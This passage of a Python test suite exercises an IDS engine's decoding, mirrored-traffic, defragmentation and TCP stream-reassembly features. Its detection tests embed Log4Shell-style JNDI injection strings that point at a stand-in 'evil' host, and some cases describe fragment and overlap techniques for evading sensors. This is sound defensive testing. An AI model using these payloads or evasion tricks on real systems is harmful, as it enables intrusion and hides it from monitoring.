    result = env.run("-T", "-S", env.path("test.rules"), "--set", f"threshold-file={bad}", expect_rc=1)
    check(f"{bad}:1: unknown directive 'limit'" in result.stdout, result.stdout)


@case
def rule_profiling(env):
    """--profile-rules writes every candidate rule's checks and matches, costliest first."""
    pcap = os.path.join(env.source, "tests", "pcaps", "guest-to-guest-attack.pcap")
    rules = open(os.path.join(env.source, "signatures", "rules", "eastwatch.rules")).read()
    env.replay([pcap], rules, "--profile-rules")
    profile = json.load(open(env.path("out/rule_perf.json")))
    by_sid = {r["signature_id"]: r for r in profile["rules"]}
    # 9000019 (libssh2 banner): its fast pattern hits the 3 client banners, all match.
    check((by_sid[9000019]["checks"], by_sid[9000019]["matches"]) == (3, 3), by_sid[9000019])
    # 9000020 ("SSH-2.0-" + paramiko, flow:to_server, port 22): the 3 client banners are
    # candidates, none matches; the 3 server banners never are: the to_client signature groups
    # do not hold a to_server rule.
    check((by_sid[9000020]["checks"], by_sid[9000020]["matches"]) == (3, 0), by_sid[9000020])
    ticks = [r["ticks"] for r in profile["rules"]]
    check(ticks == sorted(ticks, reverse=True), "sorted by cost")
    check(os.path.exists(env.path("out/rule_perf.log")), "the text table is written too")


@case
def flow_records(env):
    """outputs.eve.flow: one flow record per flow at its end, with Suricata's fields."""
    cap = Capture()
    s = TcpSession(cap, "10.0.0.1", "10.0.0.2", 40000, 80)
    s.handshake()
    s.send(b"GET /alert-me HTTP/1.1\r\n\r\n")
    s.close()
    udp_packet(cap, "10.0.0.3", "10.0.0.4", 5000, 53, b"q", vlan=30)
    cap.write(env.path("fl.pcap"))
    rules = 'alert tcp any any -> any any (msg:"x"; content:"alert-me"; sid:1;)\n'
    env.replay([env.path("fl.pcap")], rules, "--set", "outputs.eve.flow=yes")
    records = [json.loads(line) for line in open(env.path("out/eve.json"))]
    flows = sorted((r for r in records if r["event_type"] == "flow"), key=lambda r: r["proto"])
    check(len(flows) == 2, f"two flows, got {len(flows)}")
    tcp, udp = flows
    # handshake (3) + request + FIN/ACK exchange (FA, FA, A): 5 packets to the server, 2 back.
    check((tcp["flow"]["pkts_toserver"], tcp["flow"]["pkts_toclient"]) == (5, 2), tcp["flow"])
    check(tcp["flow"]["state"] == "closed" and tcp["flow"]["reason"] == "shutdown", tcp["flow"])
    check(tcp["flow"]["alerted"] is True and udp["flow"]["alerted"] is False, "alerted")
    check(tcp["src_ip"] == "10.0.0.1" and tcp["dest_port"] == 80, "the client is the source")
    check(tcp["tcp"]["syn"] and tcp["tcp"]["fin"] and tcp["tcp"]["tcp_flags"] == "1b", tcp["tcp"])
    check(udp["vlan"] == [30] and udp["flow"]["state"] == "new", udp)
    alert = next(r for r in records if r["event_type"] == "alert")
    check(alert["flow_id"] == tcp["flow_id"], "alert and flow records share the flow_id")


# --- mirror encapsulations (sensor/decode: gre, erspan, vxlan, geneve, rspan) ---

SENSOR_SRC, SENSOR_DST = "192.168.50.5", "192.168.50.9"


def _gre(flags, protocol, key=None, sequence=None):
    header = flags.to_bytes(2, "big") + protocol.to_bytes(2, "big")
    if key is not None:
        header += key.to_bytes(4, "big")
    if sequence is not None:
        header += sequence.to_bytes(4, "big")
    return header


def _inner_vlan(frame):
    from scapy.all import Dot1Q  # noqa: E402
    return frame[Dot1Q].vlan if frame.haslayer(Dot1Q) else 0


def mirror_frame(encap, frame, n):
    """`frame` as the hypervisor host 192.168.50.5 mirrors it to the sensor: the outer headers
    of `encap` around the frame's bytes (GRE and ERSPAN headers built by hand, RFC 2784/2890 and
    draft-foschiano-erspan), with the frame's timestamp."""
    from scapy.all import Ether  # noqa: E402
    inner = bytes(frame)
    outer = Ether(src="00:50:56:aa:00:01", dst="00:50:56:aa:00:09")
    if encap == "rspan":  # the remote switch's RSPAN VLAN 999 tag, outermost
        tagged = Ether(inner[:12] + b"\x81\x00" + (999).to_bytes(2, "big") + inner[12:])
        tagged.time = frame.time
        return tagged
    if encap == "erspan1":
        payload = IP(src=SENSOR_SRC, dst=SENSOR_DST, proto=47) / Raw(_gre(0, 0x88BE) + inner)
    elif encap == "erspan2":  # session 12, sequence number n, version 1, index 3
        header = (0x1000).to_bytes(2, "big") + (12).to_bytes(2, "big") + (3).to_bytes(4, "big")
        payload = IP(src=SENSOR_SRC, dst=SENSOR_DST, proto=47) / Raw(_gre(0x1000, 0x88BE, sequence=n) + header)
        payload = payload / Raw(inner)
    elif encap == "erspan3":  # session 300, the frame's VLAN, timestamp, SGT, FT 0, O set + subheader
        vlan = _inner_vlan(frame)
        header = ((2 << 12) | vlan).to_bytes(2, "big") + (300).to_bytes(2, "big") + (n * 1000).to_bytes(4, "big")
        header += (0x0abc).to_bytes(2, "big") + (0x0001).to_bytes(2, "big") + bytes(8)
        payload = IP(src=SENSOR_SRC, dst=SENSOR_DST, proto=47) / Raw(_gre(0x1000, 0x22EB, sequence=n) + header + inner)
    elif encap == "gre":  # transparent Ethernet bridging with a key
        payload = IP(src=SENSOR_SRC, dst=SENSOR_DST, proto=47) / Raw(_gre(0x2000, 0x6558, key=77) + inner)
    elif encap == "vxlan":  # VNI 5001; the outer source port varies with the inner frame, per direction
        sport = 49152 + (n * 7919) % 16000
        payload = IP(src=SENSOR_SRC, dst=SENSOR_DST) / pcapgen.UDP(sport=sport, dport=4789) / Raw(
            b"\x08\x00\x00\x00" + (5001 << 8).to_bytes(4, "big") + inner)
    elif encap == "geneve":  # VNI 7002, one 4-byte option (skipped), Ethernet inside
        payload = IP(src=SENSOR_SRC, dst=SENSOR_DST) / pcapgen.UDP(sport=49152 + n, dport=6081) / Raw(
            b"\x01\x00\x65\x58" + (7002 << 8).to_bytes(4, "big") + b"\x01\x02\x03\x04" + inner)
    else:
        raise ValueError(encap)
    mirrored = outer / payload
    mirrored.time = frame.time
    return mirrored


MIRROR_OBJECTS = {
    "erspan1": {"encap": "erspan1", "sensor_src": SENSOR_SRC},
    "erspan2": {"encap": "erspan2", "session_id": 12, "sensor_src": SENSOR_SRC},
    "erspan3": {"encap": "erspan3", "session_id": 300, "sensor_src": SENSOR_SRC},  # + vlan when tagged
    "gre": {"encap": "gre", "sensor_src": SENSOR_SRC},
    "vxlan": {"encap": "vxlan", "vni": 5001, "sensor_src": SENSOR_SRC},
    "geneve": {"encap": "geneve", "vni": 7002, "sensor_src": SENSOR_SRC},
    "rspan": {"encap": "rspan", "vlan": 999},
}


@case
def mirror_encapsulations_demo(env):
    """The demo's guest-to-guest attack mirrored through each encapsulation (ERSPAN I/II/III, GRE,
    VXLAN, Geneve, RSPAN): the inner frames are inspected as if captured locally, so the alerts
    are the same as the plain capture's (same pcap_cnt, rule, addresses, ports and inner VLAN 20
    of db-01), each with the `mirror` object of its encapsulation; the outer headers are counted
    in stats.decoder (gre, erspan, vxlan, geneve) and no frame is invalid."""
    from scapy.all import rdpcap, wrpcap  # noqa: E402
    demo = os.path.join(env.source, "tests", "pcaps", "guest-to-guest-attack.pcap")
    rules = open(os.path.join(env.source, "signatures", "rules", "eastwatch.rules")).read()
    frames = rdpcap(demo)

    def facts(alerts):
        return [(a["pcap_cnt"], a["alert"]["signature_id"], a["src_ip"], a["dest_ip"], a.get("dest_port"),
                 a.get("vlan")) for a in alerts]

    plain, _ = env.replay([demo], rules)
    check(len(plain) == 18, f"the demo's 18 alerts: {facts(plain)}")
    settings = ["--set", "decoder.erspan.typeI.enabled=true", "--set", "decoder.rspan.vlans=[999]"]
    for encap, expected_mirror in MIRROR_OBJECTS.items():
        pcap = env.path(f"{encap}.pcap")
        wrpcap(pcap, [mirror_frame(encap, f, n) for n, f in enumerate(frames, 1)])
        shutil.rmtree(env.path("out"), ignore_errors=True)
        alerts, stats = env.replay([pcap], rules, *settings)
        check(facts(alerts) == facts(plain), f"{encap}:\n  got      {facts(alerts)}\n  expected {facts(plain)}")
        for alert in alerts:
            expected = dict(expected_mirror)
            if encap == "erspan3" and alert.get("vlan"):
                expected["vlan"] = alert["vlan"][0]  # the header carries the frame's VLAN
            check(alert.get("mirror") == expected, f"{encap} sid {alert['alert']['signature_id']}: "
                                                    f"mirror {alert.get('mirror')}, expected {expected}")
        decoder = stats["decoder"]
        check(decoder["pkts"] == 107 and decoder["invalid"] == 0, f"{encap}: decoder stats {decoder}")
        # Every frame through its decoder (RSPAN has no counter of Suricata's: stats.log's decoder.mirror.rspan).
        key = {"erspan1": "erspan", "erspan2": "erspan", "erspan3": "erspan"}.get(encap, encap)
        check(encap == "rspan" or decoder.get(key) == 107, f"{encap}: decoder.{key} {decoder.get(key)}, expected 107")
        if encap.startswith("erspan"):
            check(decoder["gre"] == 107, f"{encap}: every ERSPAN frame came in GRE: {decoder['gre']}")
    # ERSPAN type I is off by default, as in Suricata: nothing is decoded past GRE, so no alert.
    shutil.rmtree(env.path("out"), ignore_errors=True)
    alerts, stats = env.replay([env.path("erspan1.pcap")], rules)
    check(alerts == [] and stats["decoder"]["erspan"] == 0, f"typeI off: {facts(alerts)} {stats['decoder']}")


@case
def mirror_two_vnis_separate_flows(env):
    """Two tenants with identical inner traffic (same addresses, ports and sequence numbers) on
    VNI 100 and VNI 200, interleaved packet by packet: the VNI is part of the flow key, so they
    are two flows, each reassembled on its own and each alerting once (merged, the second
    tenant's bytes would be retransmissions and never alert). Flow records carry the mirror
    object. The VXLAN outer source port differs per direction, as a hypervisor's entropy hash
    may make it: with 3 workers the symmetric hash on the inner frame and VNI still keeps each
    flow in one worker, so the alerts are the same as with one."""
    from scapy.all import wrpcap  # noqa: E402
    tenant = Capture()
    s = TcpSession(tenant, "10.40.0.11", "10.40.0.12", 41000, 8080)
    s.handshake()
    s.send(b"POST /upload HTTP/1.1\r\nHost: t\r\nContent-Length: 11\r\n\r\nTENANT-MARK")
    s.send(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n", to_server=False)
    s.close()
    frames = []
    for n, frame in enumerate(tenant.packets):
        for vni in (100, 200):
            inner = bytes(frame)
            to_server = frame[IP].src == "10.40.0.11"
            sport = (40000 if to_server else 60000) + vni
            mirrored = ether("00:50:56:aa:00:01", "00:50:56:aa:00:09") / IP(src=SENSOR_SRC, dst=SENSOR_DST) / pcapgen.UDP(
                sport=sport, dport=4789) / Raw(b"\x08\x00\x00\x00" + (vni << 8).to_bytes(4, "big") + inner)
            mirrored.time = frame.time + (vni // 100 - 1) * pcapgen.Decimal("0.0001")
            frames.append(mirrored)
    wrpcap(env.path("vnis.pcap"), frames)
    rules = ('alert tcp any any -> any 8080 (msg:"tenant marker"; flow:established,to_server; '
             'content:"TENANT-MARK"; sid:1;)\n')
    # The request is tenant frame 4 (S, SA, A, request): mirrored as frames 7 (VNI 100) and 8 (VNI 200).
    for workers in ("1", "3"):
        shutil.rmtree(env.path("out"), ignore_errors=True)
        alerts, stats = env.replay([env.path("vnis.pcap")], rules, "--set", "outputs.eve.flow=yes",
                                   "--workers", workers)
        got = sorted((a["pcap_cnt"], a["mirror"]["vni"]) for a in alerts)
        check(got == [(7, 100), (8, 200)], f"{workers} worker(s): alerts (pcap_cnt, vni) {got}")
        check(len({a["flow_id"] for a in alerts}) == 2, "two flows, two flow ids")
        records = [json.loads(line) for line in open(env.path("out/eve.json"))]
        flows = sorted((r for r in records if r["event_type"] == "flow"), key=lambda r: r["mirror"]["vni"])
        check([f["mirror"] for f in flows] == [{"encap": "vxlan", "vni": v, "sensor_src": SENSOR_SRC}
                                               for v in (100, 200)], f"flow records' mirror {flows}")
        # Each tenant's flow: S, A, request, FA, A to the server; SA, response, FA back.
        check(all((f["flow"]["pkts_toserver"], f["flow"]["pkts_toclient"]) == (5, 3) for f in flows),
              f"per-flow counters {[f['flow'] for f in flows]}")
        check(stats["flow"]["tcp"] == 2 and stats["decoder"]["vxlan"] == len(frames), f"stats {stats['flow']}")


@case
def ip_fragments_reassembled(env):
    """IP defragmentation: a UDP and a TCP payload whose signature spans fragments sent out of order
    alert once, on the fragment that completes the datagram (Suricata's rebuilt packet carries its
    pcap_cnt); the fragments themselves meet only ip rules (fragbits:M fires on each fragment with
    MF, never on the rebuilt datagrams); an overlap with different data raises
    decode-event:ipv4.frag_overlap on the overlapping fragment; the destination's host-os-policy
    decides which bytes the rebuilt datagram keeps (bsd: the earlier, last: the later)."""
    from scapy.all import UDP, fragment, raw  # noqa: E402

    def frames_of(packet, size):
        return [pcapgen.ether() / f for f in fragment(packet, fragsize=size)]

    cap = Capture()
    mf = []  # pcap_cnt of every fragment with MF set
    udp = IP(src="10.0.0.1", dst="10.0.0.2", id=4242) / UDP(sport=5000, dport=6000) / Raw(
        b"A" * 20 + b"EVIL-SPLIT-SIGNATURE" + b"B" * 20)
    udp_frames = frames_of(udp, 16)
    check(len(udp_frames) == 5, "five UDP fragments")
    for frame in reversed(udp_frames):  # last fragment first: the first one completes the datagram
        n = cap.add(frame)
        if frame[IP].flags.MF:
            mf.append(n)
    udp_done = n
    tcp = IP(src="10.0.0.3", dst="10.0.0.4", id=99) / TCP(sport=40000, dport=80, flags="PA", seq=1, ack=1) / Raw(
        b"x" * 10 + b"TCP-SPLIT-MARKER" + b"y" * 30)
    tcp_frames = frames_of(tcp, 32)
    check(len(tcp_frames) == 3, "three TCP fragments")
    for i in (1, 0, 2):
        n = cap.add(tcp_frames[i])
        if tcp_frames[i][IP].flags.MF:
            mf.append(n)
    tcp_done = n
    # A UDP datagram 10.0.0.1 -> 10.0.0.2 in 0..16 and 16..24, with 8..16 sent twice: first "A"s
    # (in the first fragment), then "X"s.
    datagram = raw(IP(src="10.0.0.1", dst="10.0.0.2", proto=17) / UDP(sport=5001, dport=6001) / Raw(
        b"A" * 8 + b"CCCCCCCC"))[20:]
    first = cap.add(pcapgen.ether() / IP(src="10.0.0.1", dst="10.0.0.2", id=777, proto=17, flags="MF", frag=0) /
                    Raw(datagram[:16]))
    overlap = cap.add(pcapgen.ether() / IP(src="10.0.0.1", dst="10.0.0.2", id=777, proto=17, flags="MF", frag=1) /
                      Raw(b"XXXXXXXX"))
    last = cap.add(pcapgen.ether() / IP(src="10.0.0.1", dst="10.0.0.2", id=777, proto=17, frag=2) /
                   Raw(datagram[16:]))
    mf += [first, overlap]
    cap.write(env.path("frag.pcap"))
    rules = """
alert udp any any -> any 6000 (msg:"udp signature across fragments"; content:"EVIL-SPLIT-SIGNATURE"; sid:1;)
alert tcp any any -> any 80 (msg:"tcp signature across fragments"; content:"TCP-SPLIT-MARKER"; sid:2;)
alert ip any any -> any any (msg:"overlapping fragment"; decode-event:ipv4.frag_overlap; sid:3;)
alert udp any any -> any 6001 (msg:"the later copy won"; content:"XXXXXXXX"; sid:4;)
alert ip any any -> any any (msg:"a fragment"; fragbits:M; sid:5;)
"""
    alerts, stats = env.replay([env.path("frag.pcap")], rules)
    expected = sorted([(n, 5) for n in mf] + [(udp_done, 1), (tcp_done, 2), (overlap, 3)])
    expect_alerts(sorted(alerts, key=lambda a: (a["pcap_cnt"], a["alert"]["signature_id"])), expected)
    check(stats["defrag"]["ipv4"]["fragments"] == 11, f"defrag stats: {stats['defrag']}")
    check(stats["defrag"]["ipv4"]["reassembled"] == 3, f"defrag stats: {stats['defrag']}")
    check(stats["decoder"]["event"]["ipv4"]["frag_overlap"] == 1, "frag_overlap counted")
    check(stats["decoder"]["pkts"] == 11, "decoder.pkts counts captured frames only")
    sources = {(a["pcap_cnt"], a["alert"]["signature_id"]): a["pkt_src"] for a in alerts}
    check(sources[(udp_done, 1)] == "defrag" and sources[(udp_done, 5)] == "wire/pcap",
          f"pkt_src: the rebuilt datagram 'defrag', the fragment 'wire/pcap': {sources}")
    # The same capture with 10.0.0.2 as a "last" host: the X's replace the A's.
    alerts, _ = env.replay([env.path("frag.pcap")], rules, "--set", "host-os-policy.last=[10.0.0.2]")
    check((last, 4) in sids_by_packet(alerts), f"last policy: {sids_by_packet(alerts)}")
    check((udp_done, 1) in sids_by_packet(alerts), "the UDP signature still matches")


@case
def byte_keywords_bsize_ipopts(env):
    """byte_extract/byte_math variables, bsize and ipopts on UDP datagrams, each reasoned by hand."""
    from scapy.all import UDP as Udp, IPOption_RR, IPOption_SSRR, IPOption_Timestamp
    from pcapgen import ether
    cap = Capture()

    def datagram(payload, options=None):
        ip = IP(src="10.0.0.1", dst="10.0.0.2", options=options) if options else IP(src="10.0.0.1", dst="10.0.0.2")
        return cap.add(ether() / ip / Udp(sport=5000, dport=7000) / Raw(payload))

    datagram(b"LEN\x03abcX")                 # 1
    datagram(b"LEN\x05LEN\x00X")             # 2
    datagram(b"LEN\x02abcX")                 # 3
    datagram(bytes([2, ord("a"), 1, ord("b"), ord("Z")]))  # 4
    datagram(b"120")                         # 5
    datagram(b"opt", [IPOption_RR(routers=["10.0.0.9"])])              # 6
    datagram(b"opt", [IPOption_Timestamp(flg=0, timestamp=[0])])      # 7
    datagram(b"opt", [IPOption_SSRR(routers=["10.0.0.9"])])            # 8
    datagram(b"opt")                         # 9
    cap.write(env.path("b.pcap"))
    rules = """
alert udp any any -> any any (msg:"length byte then X"; content:"LEN"; byte_extract:1,0,n,relative; content:"X"; distance:n; within:1; sid:1;)
alert udp any any -> any any (msg:"extracted jump offset"; byte_extract:1,0,off; byte_jump:1,off; content:"Z"; within:1; sid:2;)
alert udp any any -> any any (msg:"byte_math string times 4"; byte_math:bytes 2,offset 0,oper *,rvalue 4,result total,string dec; byte_test:1,=,total,2; sid:3;)
alert udp any any -> any any (msg:"division by zero"; byte_math:bytes 1,offset 0,oper /,rvalue 0,result r; sid:4;)
alert udp any any -> any any (msg:"bsize exact"; content:"LEN"; bsize:8; sid:5;)
alert udp any any -> any any (msg:"short and no LEN"; content:!"LEN"; bsize:<6; sid:6;)
alert ip any any -> any any (msg:"record route"; ipopts:rr; sid:7;)
alert ip any any -> any any (msg:"any option"; ipopts:any; sid:8;)
alert ip any any -> any any (msg:"timestamp"; ipopts:ts; sid:9;)
alert ip any any -> any any (msg:"strict source route"; ipopts:ssrr; sid:10;)
"""
    alerts, _ = env.replay([env.path("b.pcap")], rules)
    # 1: n=3, the read ends at 4, X must be at 7: it is (8 bytes, so bsize:8 too). 2: the first LEN
    # gives n=5 (past the end), the second n=0 with X right after: backtracking re-extracts; 9 bytes.
    # 3: X is at 7, the window is [6, 7); 8 bytes. 4: off=2, the byte there is 1, the jump lands on 4:
    # "Z"; 5 bytes without LEN. 5: "12" * 4 = 48 = "0" at offset 2; 3 bytes. 6-8: the options scapy
    # writes (padding with EOL); "opt" is short and has no LEN. 9: no options. sid 4 never matches.
    expected = [(1, 1), (1, 5), (2, 1), (3, 5), (4, 2), (4, 6), (5, 3), (5, 6), (6, 6), (6, 7), (6, 8),
                (7, 6), (7, 8), (7, 9), (8, 6), (8, 8), (8, 10), (9, 6)]
    expect_alerts(alerts, expected)
    bad = env.write("bad.rules", "\n".join([
        'alert udp any any -> any any (msg:"unknown var"; content:"a"; content:"b"; distance:nope; sid:1;)',
        'alert udp any any -> any any (msg:"too long for bsize"; content:"abcdef"; bsize:5; sid:2;)',
        'alert ip any any -> any any (msg:"bad option"; ipopts:qs; sid:3;)',
        '',
    ]))
    lines = env.run("-T", "-S", bad, expect_rc=1).stdout.strip().splitlines()
    expected_lines = [
        f"{bad}:1: distance: unknown byte_extract/byte_math variable 'nope'",
        f"{bad}:2: bsize: required content length 6 exceeds bsize value 5 (the rule could never match)",
        f"{bad}:3: ipopts: invalid option 'qs' (expected rr, eol, nop, ts, sec, esec, lsrr, ssrr, satid or any)",
        "0 loaded, 3 failed",
    ]
    check(lines == expected_lines, f"-T output:\n  got      {lines}\n  expected {expected_lines}")


@case
def tcp_stream_stats(env):
    """The stream engine's stats.tcp: sessions from handshakes, out-of-order data, an overlap
    with different bytes, and a flow without a handshake (picked up only with stream.midstream)."""
    cap = Capture()
    s = TcpSession(cap, "10.0.0.1", "10.0.0.2", 40000, 80)
    s.handshake()
    s.send(b"GET / HTTP/1.1\r\n\r\n")
    s.close()
    # A second session whose request arrives in reverse order, then a retransmission of its
    # first segment with other bytes (an overlap with different data, Suricata's counters).
    r = TcpSession(cap, "10.0.0.1", "10.0.0.2", 40001, 80)
    r.handshake()
    base = r.cseq
    for offset, chunk in ((8, b"CCCC"), (4, b"BBBB"), (0, b"AAAA"), (0, b"XXXX")):
        r.cseq = base + offset
        r.send(chunk)
    # A flow whose handshake happened before the capture started.
    cap.add(ether() / IP(src="10.0.0.3", dst="10.0.0.4") / TCP(sport=5555, dport=443, flags="PA", seq=7, ack=9)
            / Raw(b"midstream"))
    cap.write(env.path("st.pcap"))
    rules = 'alert tcp any any -> any any (msg:"x"; content:"nothing-matches-this"; sid:1;)\n'
    _, stats = env.replay([env.path("st.pcap")], rules)
    tcp = stats["tcp"]
    check(tcp["sessions"] == 2 and tcp["syn"] == 2 and tcp["synack"] == 2, f"tcp stats {tcp}")
    check(tcp["midstream_pickups"] == 0, f"midstream is off by default: {tcp}")
    check(tcp["overlap"] == 1 and tcp["overlap_diff_data"] == 1, f"one retransmission with other bytes: {tcp}")
    check(tcp["reassembly_gap"] == 0 and tcp["segment_memcap_drop"] == 0, f"nothing lost: {tcp}")
    check(tcp["active_sessions"] == 0 and tcp["memuse"] == 0, f"flows ended, sessions freed: {tcp}")
    log = open(env.path("out/stats.log")).read()
    check("tcp.retransmissions" in log and "tcp.sessions" in log, "stats.log has the tcp counters")
    _, stats = env.replay([env.path("st.pcap")], rules, "--set", "stream.midstream=yes")
    check(stats["tcp"]["sessions"] == 3 and stats["tcp"]["midstream_pickups"] == 1, f"midstream: {stats['tcp']}")


@case
def tcp_stream_cross_segment_matching(env):
    """Rules match over the reassembled stream (Suricata's tcp rules inspect packets and the
    stream): a content split across two segments, or completed by an out-of-order segment,
    alerts once, at the packet that completes it. tcp-pkt and flow:no_stream rules see packets
    only, tcp-stream and flow:only_stream rules the stream only."""
    cap = Capture()
    s = TcpSession(cap, "10.0.0.1", "10.0.0.2", 40000, 8080)
    s.handshake()                                   # 1-3
    split = s.send(b"GET /x?q=${jn")                # 4: first half of ${jndi:
    done = s.send(b"di:ldap://evil/a}")             # 5: completes it
    whole = s.send(b"again ${jndi:ldap://x}")       # 6: whole in one segment
    s.close()                                       # 7-9
    # Out of order: the second half arrives first; the first half completes the match.
    r = TcpSession(cap, "10.0.0.1", "10.0.0.2", 40001, 8080)
    r.handshake()                                   # 10-12
    base = r.cseq
    r.cseq = base + 7
    later = r.send(b"ndi:rmi://evil}")              # 13: queued
    r.cseq = base
    fills = r.send(b"cmd=${j")                      # 14: fills the hole, completes ${jndi:
    r.close()                                       # 15-17
    cap.write(env.path("stream.pcap"))
    rules = "\n".join([
        'alert tcp any any -> any any (msg:"jndi (tcp)"; content:"${jndi:"; sid:1;)',
        'alert tcp-pkt any any -> any any (msg:"jndi (tcp-pkt)"; content:"${jndi:"; sid:2;)',
        'alert tcp any any -> any any (msg:"jndi (no_stream)"; flow:no_stream; content:"${jndi:"; sid:3;)',
        'alert tcp-stream any any -> any any (msg:"jndi (tcp-stream)"; content:"${jndi:"; sid:4;)',
        'alert tcp any any -> any any (msg:"jndi ldap (only_stream)"; flow:to_server,established,only_stream; '
        'content:"${jndi:"; content:"ldap://"; distance:0; sid:5;)',
        'alert tcp any any -> any any (msg:"two contents across segments"; content:"GET /"; depth:5; '
        'content:"ldap://evil"; distance:0; sid:6;)',
    ]) + "\n"
    alerts, stats = env.replay([env.path("stream.pcap")], rules)
    # Packet 5: the stream match of the split content (packet rules cannot see it). Packet 6:
    # whole in the packet: packet and stream rules alike; the stream rules' second occurrence.
    # Sid 6 at 5: GET / at stream start, ldap://evil after it in the stream; at 6 its fast
    # pattern (the longest content, "ldap://evil") is not in the new bytes: no new candidate.
    # Packet 14: the out-of-order segment completes ${jndi: (rmi, so not sid 5).
    expected = sorted([(done, 1), (done, 4), (done, 5), (done, 6),
                       (whole, 1), (whole, 2), (whole, 3), (whole, 4), (whole, 5),
                       (fills, 1), (fills, 4)])
    check(split < done < whole and later < fills, "packet numbers")
    expect_alerts(sorted(alerts, key=lambda a: (a["pcap_cnt"], a["alert"]["signature_id"])), expected)
    check(stats["tcp"]["sessions"] == 2, f"tcp {stats['tcp']}")
    log = open(env.path("out/stats.log")).read()
    check("detect.stream_matches" in log, "stream matches are counted in stats.log")

    # Without a session (midstream off, no handshake in the capture) there is no stream:
    # tcp rules still match packets, tcp-stream rules never.
    cap = Capture()
    cap.add(ether() / IP(src="10.0.0.3", dst="10.0.0.4") / TCP(sport=5555, dport=80, flags="PA", seq=7, ack=9)
            / Raw(b"x ${jndi:ldap://y}"))
    cap.write(env.path("midstream.pcap"))
    shutil.rmtree(env.path("out"))
    alerts, _ = env.replay([env.path("midstream.pcap")], rules)
    expect_alerts(alerts, [(1, 1), (1, 2), (1, 3)])


@case
def stream_evasions(env):
    """Evasions against the reassembler, each detected exactly once: one-byte segments, an
    out-of-order overlap with different data resolved by the receiver's host-os-policy (first
    keeps the bytes that came first, last the later ones: Suricata's stream-tcp-list.c), a
    retransmission of delivered bytes with other data (delivered bytes never change), and a
    hole the receiver acknowledged (a gap: reassembly goes on after it)."""
    cap = Capture()
    one = TcpSession(cap, "10.0.0.1", "10.0.0.2", 40000, 80)
    one.handshake()
    for byte in b"GET /${jndi:ldap://x}":
        last_byte = one.send(bytes([byte]))
    # The byte completing "${jndi:" is the 12th: handshake (3) + 11 bytes "GET /${jndi" + ":".
    completes = 3 + len(b"GET /${jndi:")
    # Out of order with an overlap: [4,8) arrives as "EVIL", then again as "GOOD", then [0,4).
    o = TcpSession(cap, "10.0.0.1", "10.0.0.5", 40001, 80)
    o.handshake()
    base = o.cseq
    o.cseq = base + 4
    o.send(b"EVIL")
    o.cseq = base + 4
    o.send(b"GOOD")
    o.cseq = base
    overlap_done = o.send(b"cmd=")
    # Delivered, then retransmitted with other bytes: the first copy is what the host got.
    d = TcpSession(cap, "10.0.0.1", "10.0.0.6", 40002, 80)
    d.handshake()
    start = d.cseq
    delivered = d.send(b"user=root")
    d.cseq = start
    d.send(b"user=evil")
    # A hole the server acknowledged: its bytes are lost to the sensor (a gap), and the stream
    # goes on after it. tcp-stream rules see only reassembled bytes.
    g = TcpSession(cap, "10.0.0.1", "10.0.0.7", 40003, 80)
    g.handshake()
    g.send(b"AAAA")
    g.cseq += 4  # 4 bytes the sensor never sees
    after_gap = g.send(b"after-the-gap-marker")
    cap.add(pcapgen.ether("00:50:56:00:00:02", "00:50:56:00:00:01") / IP(src="10.0.0.7", dst="10.0.0.1") /
            TCP(sport=80, dport=40003, flags="A", seq=g.sseq, ack=g.cseq))
    # The sender's next segment finds the hole acknowledged: the engine skips it (a gap) and
    # delivers what was queued behind it.
    g.send(b"more")
    cap.write(env.path("evasion.pcap"))
    rules = "\n".join([
        'alert tcp any any -> any 80 (msg:"jndi in one-byte segments"; content:"${jndi:"; sid:1;)',
        'alert tcp any any -> 10.0.0.5 80 (msg:"the first copy won"; content:"cmd=EVIL"; sid:2;)',
        'alert tcp any any -> 10.0.0.5 80 (msg:"the last copy won"; content:"cmd=GOOD"; sid:3;)',
        'alert tcp-stream any any -> 10.0.0.6 80 (msg:"delivered bytes kept"; content:"user=root"; sid:4;)',
        'alert tcp-stream any any -> 10.0.0.6 80 (msg:"retransmitted bytes"; content:"user=evil"; sid:5;)',
        'alert tcp-stream any any -> 10.0.0.7 80 (msg:"after a gap"; content:"after-the-gap-marker"; sid:6;)',
    ]) + "\n"
    for policy, winner in (("first", 2), ("last", 3)):
        shutil.rmtree(env.path("out"), ignore_errors=True)
        alerts, stats = env.replay([env.path("evasion.pcap")], rules, "--set",
                                   f"host-os-policy.{policy}=[10.0.0.5]")
        got = sorted(sids_by_packet(alerts))
        by_sid = {sid: n for n, sid in got}
        check([sid for _, sid in got].count(1) == 1 and by_sid[1] == completes,
              f"{policy}: one-byte segments alert once at packet {completes}: {got}")
        check(by_sid.get(winner) == overlap_done and (5 - winner) not in by_sid,
              f"{policy}: sid {winner} at the packet filling the hole ({overlap_done}): {got}")
        check(by_sid.get(4) == delivered and 5 not in by_sid, f"delivered bytes are the ones inspected: {got}")
        check(6 in by_sid and by_sid[6] >= after_gap, f"the stream goes on after the gap: {got}")
        check(len(got) == 4, f"nothing else alerts: {got}")
        check(stats["tcp"]["overlap_diff_data"] >= 2 and stats["tcp"]["reassembly_gap"] == 1, f"tcp {stats['tcp']}")
    check(last_byte > completes, "the content completes before the last segment")


@case
def stream_size_keyword(env):
    """stream_size (Suricata's DetectStreamSizeMatch): next_seq - ISN of a side's stream, so the
    SYN counts as one byte; checked on every packet of the session (rules without content take
    the header-only path), never on a packet without a session."""
    cap = Capture()
    s = TcpSession(cap, "10.0.0.1", "10.0.0.2", 40000, 80)
    s.handshake()                                       # 1-3: client 1, server 0 then 1
    s.send(b"secret" + b"a" * 54)                       # 4: client 61
    s.send(b"b" * 10, to_server=False)                  # 5: server 11
    over = s.send(b"c" * 60)                            # 6: client 121, the first past 100
    s.send(b"d" * 100, to_server=False)                 # 7: server 111
    s.send(b"secret" + b"e" * 4)                        # 8: client 131
    s.close()                                           # 9-11
    # Midstream is off: a flow whose handshake is not in the capture has no session.
    cap.add(ether() / IP(src="10.0.0.3", dst="10.0.0.4") / TCP(sport=5555, dport=80, flags="PA", seq=7, ack=9)
            / Raw(b"secret"))                           # 12
    cap.write(env.path("ss.pcap"))
    rules = "\n".join([
        'alert tcp any any -> any any (msg:"client sent over 100"; flow:to_server; stream_size:client,>,100; sid:1;)',
        'alert tcp any any -> any any (msg:"both over 50"; stream_size:both,>,50; sid:2;)',
        'alert tcp any any -> any any (msg:"either 111"; flow:to_client; stream_size:either,>=,111; sid:3;)',
        'alert tcp any any -> any any (msg:"server quiet"; flow:to_server; stream_size:server,<,5; sid:4;)',
